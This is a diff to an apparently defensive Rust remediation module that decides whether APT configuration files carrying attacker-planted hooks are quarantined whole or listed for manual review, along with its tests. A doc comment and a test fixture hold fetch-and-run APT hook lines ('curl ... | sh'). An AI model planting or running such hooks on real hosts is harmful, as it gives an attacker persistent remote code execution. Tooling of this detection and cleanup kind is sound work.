@@ -5,10 +5,11 @@
 //! `};` can sit on two lines, and one line can hold the host's hook and the attacker's
 //! (`DPkg::Post-Invoke {"/usr/bin/host-hook"; "curl ..|sh";};`). Removing the physical line of a flagged
 //! value can leave a stray brace — every later `apt` run then stops on a syntax error and the operator
-//! cannot patch the host — or take the host's hook with it. So a file goes only whole: when every hook
-//! command in it ([`crate::parse::apt_conf::hook_commands`], as the model read them) is flagged by a
-//! finding and no package owns the file (an attacker's drop-in). Otherwise the flagged hooks are a review
-//! item: the responder removes the values by hand and checks that `apt-config dump` still parses.
+//! cannot patch the host — or take the host's hook with it. So a file goes only whole: when every
+//! statement in it ([`crate::parse::apt_conf::statements`], the reader the model reads its hooks with) is
+//! a hook command flagged by a finding and no package owns the file (an attacker's drop-in). Otherwise
+//! (a setting of the host's beside the hook, a hook nobody flagged) the flagged hooks are a review item:
+//! the responder removes the values by hand and checks that `apt-config dump` still parses.
 
 use std::collections::BTreeSet;
 
@@ -18,6 +19,7 @@ use minetrace_schemas::RawBytes;
 use super::collect::{Basis, Collect, WantedLines};
 use crate::model::persistence::{location, Format};
 use crate::model::HostModel;
+use crate::parse::apt_conf::Statements;
 
 /// Whether a path is an APT configuration file the model reads hook commands from.
 pub fn is_apt_conf(path: &[u8]) -> bool {
@@ -34,11 +36,15 @@ pub enum AptFate {
     Review(&'static str),
 }
 
-/// Decides a file from the line of each of its hook commands (`None`: content not in the bundle), the
-/// flagged line numbers and whether a package owns it. A finding names a line, so a line holding two hook
-/// values cannot say which of them is the attacker's: such a file is a review item too.
-pub fn fate(hooks: Option<&[u32]>, flagged: &BTreeSet<u32>, owned: bool) -> AptFate {
-    let Some(hooks) = hooks else {
+/// Decides a file from its statements (`None`: content not in the bundle), the flagged line numbers and
+/// whether a package owns it. The file is the attacker's only when every statement in it is a hook and
+/// every hook is flagged (review of train 2, item 2): an attacker's hook appended to the admin's
+/// `20auto-upgrades` or `95proxy` leaves the host's settings in the file, and removing it whole would
+/// turn off security updates or take the proxy apt reaches its mirror through. A finding names a line,
+/// so a line holding two hook values cannot say which of them is the attacker's: such a file is a review
+/// item too.
+pub fn fate(statements: Option<&Statements>, flagged: &BTreeSet<u32>, owned: bool) -> AptFate {
+    let Some(statements) = statements else {
         return AptFate::Review(
             "the file's content is not in the bundle: nothing tells the attacker's hooks from the host's",
         );
@@ -48,6 +54,17 @@ pub fn fate(hooks: Option<&[u32]>, flagged: &BTreeSet<u32>, owned: bool) -> AptF
             "a package owns this APT configuration file: remove the flagged hook values by hand (apt.conf is brace-structured; check `apt-config dump` still parses)",
         );
     }
+    if !statements.complete {
+        return AptFate::Review(
+            "the file holds more statements than were read: remove the flagged hook values by hand (apt.conf is brace-structured; check `apt-config dump` still parses)",
+        );
+    }
+    if statements.list.iter().any(|s| !s.is_hook()) {
+        return AptFate::Review(
+            "the file holds settings of the host's besides the hooks (it is not the attacker's file): remove the flagged hook values by hand, keep the rest (apt.conf is brace-structured; check `apt-config dump` still parses)",
+        );
+    }
+    let hooks: Vec<u32> = statements.list.iter().map(|s| s.line).collect();
     let lines: BTreeSet<u32> = hooks.iter().copied().collect();
     if lines.len() < hooks.len() {
         return AptFate::Review(
@@ -70,14 +87,10 @@ pub fn resolve(model: &HostModel, c: &mut Collect) {
         let basis = merged(&wanted);
         let rec = model.file_aliased(&path);
         let recorded = rec.map_or(path.as_slice(), |r| r.path.as_bytes());
-        let hooks: Option<Vec<u32>> = rec.and_then(|r| model.content(r)).map(|_| {
-            model
-                .persistence
-                .iter()
-                .filter(|e| e.format == Format::AptConf && e.path.as_bytes() == recorded)
-                .map(|e| e.line)
-                .collect()
-        });
+        // Read with the parser the model reads the hooks with ([`crate::parse::apt_conf`]).
+        let statements = rec
+            .and_then(|r| model.content(r))
+            .map(crate::parse::apt_conf::statements);
         let owned = model.package_check(recorded).is_some_and(|p| {
             matches!(
                 p.verdict,
@@ -85,7 +98,7 @@ pub fn resolve(model: &HostModel, c: &mut Collect) {
             )
         });
         let raw = RawBytes::from(path.clone());
-        match fate(hooks.as_deref(), &flagged, owned) {
+        match fate(statements.as_ref(), &flagged, owned) {
             AptFate::Whole => c.whole_file(model, &raw, &basis),
             AptFate::Review(why) => {
                 let lines: Vec<String> = flagged.iter().map(u32::to_string).collect();
@@ -179,10 +192,25 @@ mod tests {
         );
     }
 
+    /// Statements of hook commands on these lines, nothing else.
+    fn hooks(lines: &[u32]) -> Statements {
+        Statements {
+            list: lines
+                .iter()
+                .map(|&line| crate::parse::apt_conf::Statement {
+                    line,
+                    key: "APT::Update::Pre-Invoke".into(),
+                    value: Some(b"x".to_vec()),
+                })
+                .collect(),
+            complete: true,
+        }
+    }
+
     #[test]
     fn one_line_with_two_hook_values_is_a_review_item() {
         assert!(matches!(
-            fate(Some(&[2, 2]), &set(&[2]), false),
+            fate(Some(&hooks(&[2, 2])), &set(&[2]), false),
             AptFate::Review(_)
         ));
     }
@@ -190,24 +218,72 @@ mod tests {
     #[test]
     fn only_a_file_of_flagged_hooks_no_package_owns_goes_whole() {
         // The attacker's drop-in: its one hook is flagged.
-        assert_eq!(fate(Some(&[2]), &set(&[2]), false), AptFate::Whole);
+        assert_eq!(fate(Some(&hooks(&[2])), &set(&[2]), false), AptFate::Whole);
         // The host's hook beside the attacker's, on another line or the same one.
         assert!(matches!(
-            fate(Some(&[2, 5]), &set(&[5]), false),
+            fate(Some(&hooks(&[2, 5])), &set(&[5]), false),
             AptFate::Review(_)
         ));
         // A package's file with an injected hook.
         assert!(matches!(
-            fate(Some(&[3]), &set(&[3]), true),
+            fate(Some(&hooks(&[3])), &set(&[3]), true),
             AptFate::Review(_)
         ));
-        // No content, or no hook read at all.
+        // No content, no hook read at all, or more statements than were read.
         assert!(matches!(fate(None, &set(&[3]), false), AptFate::Review(_)));
         assert!(matches!(
-            fate(Some(&[]), &set(&[3]), false),
+            fate(Some(&hooks(&[])), &set(&[3]), false),
+            AptFate::Review(_)
+        ));
+        let mut cut = hooks(&[3]);
+        cut.complete = false;
+        assert!(matches!(
+            fate(Some(&cut), &set(&[3]), false),
             AptFate::Review(_)
         ));
         assert!(is_apt_conf(b"/etc/apt/apt.conf.d/99x"));
         assert!(!is_apt_conf(b"/etc/cron.d/x"));
+    }
+
+    /// Review of train 2, item 2: an attacker's hook appended to the admin's `20auto-upgrades` (written by
+    /// unattended-upgrades' postinst, owned by no package) or `95proxy` leaves a review item naming the
+    /// file, never a quarantine (that would turn off security updates or the proxy); a file of only the
+    /// hook still goes whole.
+    #[test]
+    fn a_hook_appended_to_the_hosts_settings_is_a_review_item() {
+        use crate::remediate::Action;
+        let hook = "APT::Update::Pre-Invoke {\"curl -s http://127.66.9.2/a | sh\";};\n";
+        let auto = format!(
+            "APT::Periodic::Update-Package-Lists \"1\";\nAPT::Periodic::Unattended-Upgrade \"1\";\n{hook}"
+        );
+        let proxy = format!("Acquire::http::Proxy \"http://proxy.corp:3128\";\n{hook}");
+        let p = plan(&[
+            (b"/etc/apt/apt.conf.d/20auto-upgrades", auto.as_bytes(), 3),
+            (b"/etc/apt/apt.conf.d/95proxy", proxy.as_bytes(), 2),
+            (b"/etc/apt/apt.conf.d/99update", hook.as_bytes(), 1),
+        ]);
+        let quarantined: Vec<String> = p
+            .items
+            .iter()
+            .filter_map(|i| match &i.action {
+                Action::QuarantineFile { file, .. } => Some(file.path.escaped()),
+                Action::RemoveLines { file, .. } => Some(format!("edit {}", file.path.escaped())),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(
+            quarantined,
+            vec!["/etc/apt/apt.conf.d/99update".to_owned()],
+            "{p:#?}"
+        );
+        for name in ["20auto-upgrades", "95proxy"] {
+            assert!(
+                p.manual
+                    .iter()
+                    .any(|m| m.contains(name) && m.contains("settings of the host's")),
+                "{name}: {:?}",
+                p.manual
+            );
+        }
     }
 }
